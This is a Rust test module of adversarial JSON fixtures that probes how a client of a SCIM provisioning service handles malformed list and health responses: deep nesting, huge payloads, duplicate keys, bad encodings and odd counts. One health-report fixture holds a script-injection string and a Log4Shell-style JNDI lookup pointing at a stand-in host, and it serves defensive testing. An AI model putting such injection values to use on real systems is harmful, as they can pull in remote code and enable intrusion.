//! JSON: deep, huge, ambiguous, and lists that lie about themselves.

use crate::peer::{Act, JSON, Row, response};

const BROKEN: &str = "ProtocolError (GET /scim/Users)";

fn list(name: &'static str, body: impl AsRef<[u8]>, expected: &'static str) -> Row {
    Row::answer(
        name,
        "/scim",
        Act::Say(response("200 OK", &[JSON], body.as_ref())),
        expected,
    )
}

fn health(name: &'static str, body: impl AsRef<[u8]>) -> Row {
    Row::answer(
        name,
        "/health",
        Act::Say(response("200 OK", &[JSON], body.as_ref())),
        "Connected",
    )
}

fn counted(name: &'static str, count: &str, expected: &'static str) -> Row {
    list(
        name,
        format!(r#"{{"totalResults":{count},"Resources":[]}}"#),
        expected,
    )
}

pub(crate) fn rows() -> Vec<Row> {
    let deep = |open: &str, close: &str, depth: usize| {
        format!(
            r#"{{"totalResults":1,"Resources":{}1{}}}"#,
            open.repeat(depth),
            close.repeat(depth)
        )
    };
    let key = "k".repeat(500_000);
    vec![
        list(
            "arrays in arrays, a hundred thousand deep",
            deep("[", "]", 100_000),
            "Connected",
        ),
        list(
            "objects in objects, fifty thousand deep",
            deep(r#"{"a":"#, "}", 50_000),
            BROKEN,
        ),
        list("arrays that are never closed", "[".repeat(500_000), BROKEN),
        list(
            "a list of half a million entries",
            format!(r#"{{"totalResults":1,"Resources":[{}0]}}"#, "0,".repeat(400_000)),
            "Connected",
        ),
        list(
            "a list above the bound",
            format!(r#"{{"totalResults":1,"Resources":[{}0]}}"#, "0,".repeat(600_000)),
            BROKEN,
        ),
        list(
            "a name of half a megabyte",
            format!(r#"{{"{key}":1,"totalResults":1,"Resources":[]}}"#),
            "Connected",
        ),
        list(
            "the same name twice, agreeing",
            r#"{"totalResults":1,"totalResults":1,"Resources":[]}"#,
            BROKEN,
        ),
        list(
            "the same name twice, contradicting",
            r#"{"totalResults":1,"totalResults":2,"Resources":[]}"#,
            BROKEN,
        ),
        list(
            "the same list twice",
            r#"{"totalResults":1,"Resources":[],"Resources":[]}"#,
            BROKEN,
        ),
        list(
            "bytes that are no text",
            b"{\"totalResults\":1,\"Resources\":[\"\xff\xfe\"]}",
            "Connected",
        ),
        list(
            "half a surrogate",
            br#"{"totalResults":1,"Resources":["\ud800"]}"#,
            "Connected",
        ),
        list(
            "a mark of byte order",
            "\u{feff}{\"totalResults\":1,\"Resources\":[]}",
            BROKEN,
        ),
        list("UTF-16", [0xff, 0xfe, b'{', 0, b'}', 0], BROKEN),
        list(
            "something behind the end",
            r#"{"totalResults":1,"Resources":[]} {"totalResults":2}"#,
            BROKEN,
        ),
        list(
            "a NUL behind the end",
            "{\"totalResults\":1,\"Resources\":[]}\0",
            BROKEN,
        ),
        list("a comment", r#"/* */{"totalResults":1,"Resources":[]}"#, BROKEN),
        list("half a document", r#"{"totalResults":1,"Resources":["#, BROKEN),
        list("single quotes", "{'totalResults':1,'Resources':[]}", BROKEN),
        list("null", "null", BROKEN),
        list("a number", "1", BROKEN),
        list("an array", "[]", BROKEN),
        list("another document", r#"{"hello":"world"}"#, BROKEN),
        list("no count", r#"{"Resources":[]}"#, BROKEN),
        list(
            "an error with 200",
            r#"{"schemas":["urn:ietf:params:scim:api:messages:2.0:Error"],"status":"401"}"#,
            BROKEN,
        ),
        list(
            "a list that is no list",
            r#"{"totalResults":1,"Resources":{"a":1}}"#,
            BROKEN,
        ),
        list(
            "a count smaller than the list",
            r#"{"totalResults":0,"Resources":[{"id":"1"},{"id":"2"}]}"#,
            "Connected",
        ),
        counted("a count of NaN", "NaN", BROKEN),
        counted("a count of infinity", "Infinity", BROKEN),
        counted("a count that overflows to infinity", "1e999", BROKEN),
        counted("a count with an exponent", "1e2", BROKEN),
        counted("a negative count", "-1", BROKEN),
        counted("a count of minus nothing", "-0", BROKEN),
        counted("a fraction", "1.5", BROKEN),
        counted("a count in words", r#""three""#, BROKEN),
        counted("a count in quotes", r#""3""#, BROKEN),
        counted("a count of true", "true", BROKEN),
        counted("no count at all", "null", BROKEN),
        counted("a count beyond 64 bits", "18446744073709551616", BROKEN),
        counted("a count of four hundred digits", &"9".repeat(400), BROKEN),
        counted("a count in hexadecimal", "0x10", BROKEN),
        counted("a count with a leading zero", "03", BROKEN),
        counted("a list in a count", "[[[[1]]]]", BROKEN),
        health("a health report a hundred thousand deep", "[".repeat(100_000)),
        health(
            "a health report with a version of a megabyte",
            format!(r#"{{"version":"{}"}}"#, "9".repeat(200_000)),
        ),
        health(
            "a health report with markup for a version",
            r#"{"version":"<script>alert(1)</script>","build":"${jndi:ldap://evil.invalid}"}"#,
        ),
        health(
            "a health report with controls in its version",
            "{\"version\":\"2.9\\u001b[31m\"}",
        ),
        health(
            "a health report with ten thousand components",
            format!(
                r#"{{"version":"2.9.16","reports":[{}{{}}]}}"#,
                r#"{"source":"x","state":"y"},"#.repeat(9_000)
            ),
        ),
        health(
            "a health report with wrong types",
            r#"{"version":[],"build":{},"reports":"none"}"#,
        ),
        health("a health report of NaN", "NaN"),
    ]
}
